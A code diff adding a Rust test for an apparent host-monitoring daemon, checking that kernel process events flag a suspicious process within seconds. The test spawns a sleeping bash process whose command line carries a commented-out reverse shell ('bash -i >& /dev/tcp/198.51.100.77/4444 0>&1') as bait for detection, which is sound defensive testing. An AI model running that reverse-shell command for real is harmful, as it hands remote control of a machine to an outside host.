@@ -1118,6 +1118,66 @@ fn a_write_storm_is_coalesced_into_a_few_runs() {
 }
 
 #[test]
+fn kernel_process_events_catch_a_live_reverse_shell_at_once() {
+    if !nix::unistd::geteuid().is_root() {
+        eprintln!("skipped: the kernel's process connector needs root");
+        return;
+    }
+    // The live host, with the /proc poll and the incident schedule both ten minutes away:
+    // only the kernel's process events can make this show up within seconds.
+    let dir = tempfile::tempdir().unwrap();
+    let d = Daemon::prepare(
+        dir,
+        "hardened",
+        "[events]\nproc_poll_ms = 600000\n[schedule]\nincident = 600\n",
+    );
+    let cfg = std::fs::read_to_string(d.config()).unwrap();
+    let live: String = cfg
+        .lines()
+        .filter(|l| !l.starts_with("host_root"))
+        .map(|l| format!("{l}\n"))
+        .collect();
+    std::fs::write(d.config(), live).unwrap();
+    let d = d.launch();
+    if !d.log().contains("following the kernel's process events") {
+        eprintln!("skipped: no process connector here: {}", d.log());
+        return;
+    }
+    wait_status(&d, "INC-001", "pass", Duration::from_secs(10));
+    // Harmless (it sleeps), but its command line is a classic reverse shell.
+    let mut shell = Command::new("bash")
+        .args([
+            "-c",
+            "sleep 60; true # bash -i >& /dev/tcp/198.51.100.77/4444 0>&1",
+        ])
+        .process_group(0)
+        .spawn()
+        .unwrap();
+    let failed = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
+        wait_status(&d, "INC-001", "fail", Duration::from_secs(10))
+    }));
+    // The whole group: bash and its sleep.
+    let _ = Command::new("kill")
+        .args(["-9", "--", &format!("-{}", shell.id())])
+        .status();
+    let _ = shell.wait();
+    let p = failed.unwrap_or_else(|e| std::panic::resume_unwind(e));
+    let inc = p["checks"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|c| c["id"] == "INC-001")
+        .unwrap()
+        .clone();
+    assert!(
+        inc.to_string().contains(&format!("pid {}", shell.id())),
+        "{inc}"
+    );
+    // Its exit is a kernel event too.
+    wait_status(&d, "INC-001", "pass", Duration::from_secs(10));
+}
+
+#[test]
 fn lost_file_events_end_in_a_full_rescan() {
     // A one-event queue overflows on any burst.
     let d = Daemon::start("hardened", "[events]\nqueue = 1\n");
